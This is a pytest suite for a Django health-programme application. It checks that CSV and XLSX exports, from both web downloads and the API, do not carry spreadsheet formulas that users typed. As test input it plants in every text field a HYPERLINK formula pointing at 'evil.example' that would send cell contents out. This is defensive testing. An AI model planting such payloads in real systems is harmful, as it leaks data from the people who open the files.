"""No file the service writes carries a formula that someone typed: text starting with
each character a spreadsheet runs, typed wherever a person types text that reaches a
file, and every CSV and XLSX export opened as a colleague would open it."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client as HttpClient
from django.urls import reverse
from openpyxl import load_workbook

from healthtrainer.accounts.roles import Permission, Role
from healthtrainer.core.spreadsheets import FORMULA_STARTS
from healthtrainer.interop.services import api_client_create
from healthtrainer.programmes.models import Organisation
from healthtrainer.qualitative import services
from healthtrainer.qualitative.tests.test_views import _participant
from healthtrainer.tests.factories import accepted_episode

FIELDS = [
    "code",
    "child_code",
    "definition",
    "example",
    "theme",
    "title",
    "participant",
    "coder",
    "quote",
    "practice",
    "programme",
]


def _planted_values(start: str) -> dict[str, str]:
    return {
        field: f'{start}HYPERLINK("http://evil.example/?{field}="&A2,"Click")' for field in FIELDS
    }


@pytest.fixture(params=FORMULA_STARTS, ids=repr)
def planted(request, world):
    values = _planted_values(request.param)
    manager = world.people[Role.PROGRAMME_MANAGER]
    manager.full_name = values["coder"]
    manager.save()
    trainer = world.people[Role.HEALTH_TRAINER]
    world.programme.name = values["programme"]
    world.programme.save()
    episode = accepted_episode(trainer, world.programme)
    Organisation.objects.filter(pk=episode.practice_id).update(name=values["practice"])
    theme = services.theme_save(
        actor=manager, programme=world.programme, name=values["theme"], description="", aspect=""
    )
    code = services.code_save(
        actor=manager,
        programme=world.programme,
        details=services.CodeDetails(
            name=values["code"],
            definition=values["definition"],
            example=values["example"],
            theme=theme,
        ),
    )
    services.code_save(
        actor=manager,
        programme=world.programme,
        details=services.CodeDetails(name=values["child_code"], parent=code),
    )
    document = services.document_create(
        actor=manager,
        participant=_participant(world, label=values["participant"], client=episode.client),
        kind="case_study",
        title=values["title"],
        text=values["quote"] + " and pacing helped.",
        source_name="pasted",
        replacements=[],
    )
    services.coding_add(
        actor=manager,
        document=document,
        codes=[code],
        start=0,
        end=len(values["quote"]),
        version=document.version,
    )
    return world, values


def _downloads(world) -> list[str]:
    slug = world.programme.slug
    return [
        reverse("evaluation:report_download", args=[slug, "csv"]),
        reverse("evaluation:report_download", args=[slug, "xlsx"]),
        reverse("evaluation:research_export", args=[slug]),
        reverse("qualitative:segments_export", args=[slug, "csv"]),
        reverse("qualitative:segments_export", args=[slug, "xlsx"]),
        reverse("qualitative:codebook_export", args=[slug, "csv"]),
    ]


def _cells(address: str, content: bytes) -> list[tuple[object, str]]:
    """Every cell of the file: its value and, for XLSX, its type."""
    if address.endswith("xlsx"):
        book = load_workbook(io.BytesIO(content))
        return [
            (cell.value, cell.data_type)
            for sheet in book.worksheets
            for row in sheet.iter_rows()
            for cell in row
            if cell.value is not None
        ]
    text = content.decode("utf-8-sig")
    return [(value, "s") for row in csv.reader(io.StringIO(text)) for value in row]


def _is_plain_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _check_cells(address: str, content: bytes, values: dict[str, str]) -> set[str]:
    """Assert no cell is a formula or starts as one; the planted fields found, written
    safe."""
    seen = set()
    for value, data_type in _cells(address, content):
        assert data_type != "f", (address, value)
        if isinstance(value, str):
            dangerous = value.startswith(FORMULA_STARTS) and not _is_plain_number(value)
            assert not dangerous, (address, value)
            seen |= {
                field
                for field, text in values.items()
                if _as_read_back("'" + text) in _as_read_back(value)
            }
    return seen


def _as_read_back(text: str) -> str:
    # An XLSX cell keeps no carriage return: it reads back as a line feed.
    return text.replace("\r", "\n")


def test_no_export_holds_a_formula_that_someone_typed(planted, client_as):
    world, values = planted
    manager = client_as(Role.PROGRAMME_MANAGER)
    seen = set()
    for address in _downloads(world):
        response = manager.get(address, {"disclosure": "exact"})
        assert response.status_code == 200, address
        content = b"".join(response.streaming_content) if response.streaming else response.content
        seen |= _check_cells(address, content, values)
    # The planted text reached the files, written safe, so the checks above meant something.
    assert seen == set(FIELDS)


def test_no_export_collected_through_the_api_holds_a_formula(planted):
    world, values = planted
    _, token = api_client_create(
        actor=world.people[Role.PROGRAMME_MANAGER],
        programme=world.programme,
        name="Evaluation partner",
        permissions=[Permission.VIEW_EVALUATION, Permission.EXPORT_RESEARCH_DATA],
    )
    api = HttpClient(HTTP_AUTHORIZATION=f"Bearer {token}")
    asked = [
        api.post("/api/v1/exports", {"kind": kind, "format": fmt}, content_type="application/json")
        for kind, fmt in [("evaluation", "csv"), ("evaluation", "xlsx"), ("research", "csv")]
    ]
    seen = set()
    for response in asked:
        job = api.get(f"/api/v1/exports/{response.json()['id']}").json()
        assert job["state"] == "done", job
        file = api.get(job["file"])
        seen |= _check_cells(job["file"] + "." + job["format"], file.content, values)
    assert "programme" in seen
